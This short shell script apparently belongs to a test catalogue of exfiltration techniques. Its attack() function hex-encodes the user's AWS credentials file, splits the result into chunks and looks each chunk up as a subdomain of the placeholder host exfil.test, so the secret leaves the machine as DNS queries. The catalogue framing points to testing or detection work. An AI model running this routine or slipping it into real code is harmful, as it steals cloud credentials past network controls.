# SPDX-License-Identifier: Apache-2.0
TITLE="the secret cut into host names, looked up through the system's resolver"
ROW="D03 E06"
DEST="$SINK4:53"
attack() {
	local hex; hex=$(od -An -v -tx1 "$HOME/.aws/credentials" | tr -d ' \n')
	for part in $(echo "$hex" | fold -w 60); do getent ahostsv4 "$part.exfil.test"; done
	true
}
